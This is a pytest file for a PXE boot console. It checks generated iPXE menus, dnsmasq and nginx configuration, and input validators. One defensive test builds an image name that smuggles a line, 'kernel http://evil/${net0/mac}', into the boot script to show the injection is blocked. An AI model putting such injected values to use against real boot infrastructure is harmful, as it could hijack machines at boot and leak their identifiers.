"""The network boot script and server configuration are pure functions of a PxePlan."""

from __future__ import annotations

import struct

import pytest

from console.core.pxe import (
    WIMBOOT_URL,
    PxeError,
    PxeImage,
    PxePlan,
    boot_script,
    check_subnet,
    check_timeout,
    check_wimboot,
    dnsmasq_config,
    nginx_server_block,
)

X64 = PxeImage("PS100004", "WinPE x64", "10.0.22621", "x64")
X86 = PxeImage("PS100005", "WinPE x86", "10.0.19041", "x86")
ARM = PxeImage("PS100006", "WinPE ARM", "", "arm64")


def plan(*images: PxeImage, **kw: object) -> PxePlan:
    return PxePlan("DP01", "/srv/dp01/SCCMContentLib/PXE", "dp01.contoso.com", images=images, **kw)  # type: ignore[arg-type]


def section(script: str, label: str) -> str:
    """The lines of one label up to the next blank line."""
    return script.split(f"\n:{label}\n", 1)[1].split("\n\n", 1)[0]


def test_menu_per_architecture_lists_names_and_versions() -> None:
    script = boot_script(plan(X64, X86, timeout=7))
    assert script.startswith("#!ipxe\n")
    assert "iseq ${platform} efi && goto uefi_${buildarch}" in script
    bios64 = section(script, "bios_x64")
    assert "item PS100004 WinPE x64 10.0.22621 (PS100004)" in bios64
    assert "item PS100005 WinPE x86 10.0.19041 (PS100005)" in bios64
    assert "choose --default PS100004 --timeout 7000 target" in bios64
    assert "PS100004" not in section(script, "bios_x86")  # a 32-bit processor cannot start x64
    uefi64 = section(script, "uefi_x86_64")
    assert "PS100004" in uefi64 and "PS100005" not in uefi64
    assert "No boot image" in section(script, "uefi_arm64")
    assert section(script, "PS100005").splitlines() == [
        "echo Starting WinPE x86 10.0.19041 (PS100005)", "kernel wimboot", "initrd images/PS100005/boot.wim boot.wim",
        "boot"]


def test_default_item_and_no_timeout() -> None:
    script = boot_script(plan(X64, X86, ARM, timeout=0, default_item="PS100005"))
    assert "choose --default PS100005 target" in section(script, "bios_x64")
    # the default is not in the UEFI x64 menu: its first item is
    assert "choose --default PS100004 target" in section(script, "uefi_x86_64")
    assert "item PS100006 WinPE ARM (PS100006)" in section(script, "uefi_arm64")


def test_names_cannot_inject_ipxe_commands() -> None:
    evil = PxeImage("PS100007", "x\nkernel http://evil/${net0/mac}", "1", "x64")
    script = boot_script(plan(evil))
    assert "\nkernel http://evil" not in script
    assert "${net0" not in script


def test_dnsmasq_snippet_proxy_dhcp_tftp_and_chain_load() -> None:
    text = dnsmasq_config(plan(X64, subnet="192.168.1.0", http_port=8080))
    lines = text.splitlines()
    assert "dhcp-range=192.168.1.0,proxy" in lines
    assert "enable-tftp" in lines and "port=0" in lines
    assert "tftp-root=/srv/dp01/SCCMContentLib/PXE" in lines
    assert "dhcp-userclass=set:ipxe,iPXE" in lines
    assert 'pxe-service=tag:ipxe,x86PC,"Boot Image Console",http://dp01.contoso.com:8080/boot.ipxe' in lines
    assert 'pxe-service=tag:!ipxe,x86PC,"Boot Image Console (BIOS)",undionly.kpxe' in lines
    assert 'pxe-service=tag:!ipxe,X86-64_EFI,"Boot Image Console (UEFI)",ipxe.efi' in lines


def test_dnsmasq_without_subnet_is_tftp_only_and_says_how_to_set_it() -> None:
    text = dnsmasq_config(plan(X64))
    assert not any(line.startswith("dhcp-range") for line in text.splitlines())
    assert "bootimage settings --pxe-subnet" in text


def test_nginx_block_serves_the_layout_with_ranges() -> None:
    text = nginx_server_block(plan(X64, http_port=8080))
    assert "    listen 8080;" in text
    assert "    root /srv/dp01/SCCMContentLib/PXE;" in text
    assert "sendfile on;" in text and "Range requests are on by default" in text
    assert "location /config/ { return 404; }" in text


def test_settings_checks() -> None:
    assert check_subnet("192.168.1.77/24") == "192.168.1.0"
    assert check_subnet("") == ""
    with pytest.raises(PxeError, match="not an IPv4 subnet"):
        check_subnet("banana")
    with pytest.raises(PxeError, match="0 to 3600"):
        check_timeout(-1)


def pe_bzimage(size: int) -> bytes:
    """A stand-in for wimboot: a valid MZ/PE header and a bzImage "HdrS" (not the real wimboot)."""
    data = bytearray(size)
    data[:2] = b"MZ"
    struct.pack_into("<I", data, 0x3C, 0x80)
    data[0x80:0x84] = b"PE\0\0"
    data[0x202:0x206] = b"HdrS"
    return bytes(data)


def test_wimboot_check() -> None:
    assert check_wimboot(pe_bzimage(64 * 1024)[:4096], 64 * 1024) == "EFI PE + Linux bzImage"
    with pytest.raises(PxeError, match="neither an EFI executable nor a Linux bzImage") as info:
        check_wimboot(b"<html>404</html>" + bytes(5000), 80 * 1024)
    assert WIMBOOT_URL in str(info.value)
    with pytest.raises(PxeError, match="is 100 bytes"):
        check_wimboot(pe_bzimage(4096)[:100], 100)


def test_layout_location_per_transport() -> None:
    from console.core.pxe import layout_location

    assert layout_location("folder", "/srv/dp01", "SCCMContentLib") == ("/srv/dp01/SCCMContentLib/PXE", "")
    assert layout_location("ssh", "bi@dp02.contoso.com:2222:/srv/dp", "SCCMContentLib") == (
        "/srv/dp/SCCMContentLib/PXE", "dp02.contoso.com")
    assert layout_location("smb", "\\\\dp03:445\\DPShare\\sub", "SCCMContentLib") == (
        "/srv/DPShare/sub/SCCMContentLib/PXE", "dp03")


def test_an_architecture_no_menu_serves_is_left_out_of_the_script() -> None:
    script = boot_script(plan(X64, PxeImage("PS100009", "Itanium", "", "ia64"), PxeImage("PS10000A", "Unread", "", "")))
    assert "PS100009" not in script and "PS10000A" not in script
    assert "item PS100004" in script


def test_missing_ipxe_binary_names_the_package_to_install(tmp_path) -> None:
    from console.core.pxe import read_ipxe

    (tmp_path / "undionly.kpxe").write_bytes(b"x")
    with pytest.raises(PxeError, match=r"ipxe\.efi is missing: install Debian's ipxe package"):
        read_ipxe(str(tmp_path))
